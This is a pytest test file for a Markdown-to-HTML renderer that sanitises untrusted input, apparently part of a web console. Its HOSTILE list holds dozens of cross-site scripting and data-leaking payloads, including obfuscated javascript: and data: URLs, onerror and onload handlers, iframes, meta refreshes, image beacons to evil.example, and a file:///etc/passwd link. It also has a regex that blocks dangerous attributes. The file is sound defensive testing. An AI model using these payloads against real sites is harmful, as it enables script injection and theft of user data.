"""Rendering of untrusted Markdown: readable, without scripts, remote content or misleading links."""

import re
import time

import pytest

from console.markdown import MAX_CHARACTERS, host_of, render, without_markup
from tests.support.sampling import rest_at_night

# Markup that must not reach a page: scripts, styles, and everything that loads resources.
_LOADS = re.compile(
    r"<(?!/?(?:a|blockquote|br|code|del|div|em|hr|li|ol|p|pre|s|span|strong|table|tbody|td|th|thead|tr|ul)\b)"
    r"|<[^>]*\s(?:src|srcset|style|id|name|background|on\w+|ping|download|formaction|data-\w+|x-\w+|hx-\w+|title)\s*=",
    re.IGNORECASE,
)
_HREF = re.compile(r'href="([^"]*)"')

HOSTILE = [
    "![leak](https://evil.example/p.png?q=secret)",
    "![leak](<https://evil.example/p.png?q=secret> 'onerror=alert(1)')",
    "![leak][1]\n\n[1]: https://evil.example/p.png?q=secret",
    "![leak]\n\n[leak]: //evil.example/p.png?q=secret",
    "[![leak](https://evil.example/p.png)](https://evil.example/?q=secret)",
    "[a ![leak](https://evil.example/a.png) b](javascript:alert(1))",
    "![a ![b](https://evil.example/b.png)](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/admin/logout/)",
    "[x](?delete=1)",
    "[x](#c-hidden)",
    "[x](https:\\\\evil.example)",
    "[x](https://openai.com\\@evil.example)",
    "[x](https://openai.com@evil.example)",
    "[x](https://openai.com%5C@evil.example)",
    "[x](https://)",
    "[x](https://[::1)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: <data:text/html,<script>alert(1)</script>>",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<img src=https://evil.example/p.png onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<script>alert(1)</script>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q></form>",
    "<p style='background:url(https://evil.example)' id=content-main class=c-button>x</p>",
    "<a href=https://evil.example ping=https://evil.example x-data=alert(1) hx-get=/admin/>x</a>",
    "<!-- --><b onmouseover=alert(1)>x",
    "<?php echo 1 ?>",
    "<![CDATA[<img src=x>]]>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x&#62;",
    "`<img src=x>` and ``` <img src=x>",
    "```html onload=alert(1)\n<img src=https://evil.example>\n```",
    "    <img src=https://evil.example>",
    "| <img src=x> | ![a](https://evil.example/a) |\n|:-:|-|\n| <script> | [x](javascript:1) |",
    '[x](https://good.example "onmouseover=alert(1) style=x")',
    '[x](https://good.example/"onmouseover=alert(1))',
    "[x](https://good.example/<img>)",
    "[x](<https://good.example/ onclick=alert(1)>)",
    "# <img src=x> ![a](https://evil.example/a)",
    "> <img src=x>\n> - ![a](https://evil.example/a)",
    "@import url(https://evil.example/a.css);",
    "{{ constructor.constructor('alert(1)')() }} {% include 'x' %}",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_unsafe_html_is_removed(text: str) -> None:
    html = render(text)
    assert not _LOADS.search(html), html
    for url in _HREF.findall(html):
        assert host_of(url), url
        assert url.startswith(("http://", "https://", "mailto:"))


def test_an_image_is_replaced_by_its_address() -> None:
    html = render("Look: ![my cat](https://pics.example:8443/cat.png?q=secret)")
    assert "my cat (image from pics.example, not loaded)" in html
    assert "secret" not in html


def test_a_link_shows_its_host_and_sends_no_referrer() -> None:
    html = render("[https://bank.example](https://evil.example/login)")
    assert 'rel="noopener noreferrer nofollow"' in html
    assert '<span class="c-host">evil.example</span>' in html


def test_a_bare_link_does_not_repeat_its_address() -> None:
    html = render("<https://a.example/x>")
    assert ">https://a.example/x</a>" in html
    assert "c-host" not in html


def test_mail_addresses_are_links() -> None:
    assert 'href="mailto:ada@example.com"' in render("<ada@example.com>")


def test_common_markdown_is_rendered() -> None:
    html = render(
        "# Title\n\n**bold** and *soft* and ~~gone~~ and `code`\n\n- a\n- b\n\n"
        "3. c\n\n> said\n\n| n | v |\n|---|--:|\n| a | 1 |\n\n```python\nx < 1\n```"
    )
    for made in [
        '<p class="c-h1">Title</p>',
        "<strong>bold</strong>",
        "<em>soft</em>",
        "<s>gone</s>",
        "<code>code</code>",
        "<li>a</li>",
        '<ol start="3">',
        "<blockquote>",
        '<td class="c-num">1</td>',
        '<pre class="c-pre"><code>x &lt; 1\n</code></pre>',
    ]:
        assert made in html


def test_a_long_text_is_shown_as_plain_text() -> None:
    html = render("**x** <b>" + "a" * MAX_CHARACTERS)
    assert html.startswith('<p class="c-text">**x** &lt;b&gt;aaa')


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("| Plan | CPU |\n|------|----:|\n| Small | 2 |\n| Large | 16 |", "Plan, CPU; Small, 2; Large, 16"),
        # A stored preview is one line, and may end anywhere.
        ("| Plan | CPU | |---|---| | Small | 2 | | Lar", "Plan, CPU; Small, 2; Lar"),
        ("Either a | b", "Either a | b"),
    ],
)
def test_a_preview_shows_tables_as_text(text: str, shown: str) -> None:
    assert without_markup(text) == shown


@pytest.mark.parametrize(
    "pattern",
    rest_at_night(["[", "*_", "[a](", "`a", "![", "*a ", "<", "&", "> ", "~~a ", "|", "- ", "[a]: b\n"], first=4),
)
@pytest.mark.slow
def test_rendering_takes_linear_time(pattern: str) -> None:
    began = time.process_time()
    render((pattern * MAX_CHARACTERS)[:MAX_CHARACTERS])
    assert time.process_time() - began < 10


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://A.example:1/x", "a.example"),
        ("mailto:a@b.example", "a@b.example"),
        ("ftp://a.example", ""),
        ("https://a@b.example", ""),
        ("https://[", ""),
        ("/x", ""),
        ("", ""),
    ],
)
def test_the_host_of_an_address_is_found(url: str, host: str) -> None:
    assert host_of(url) == host
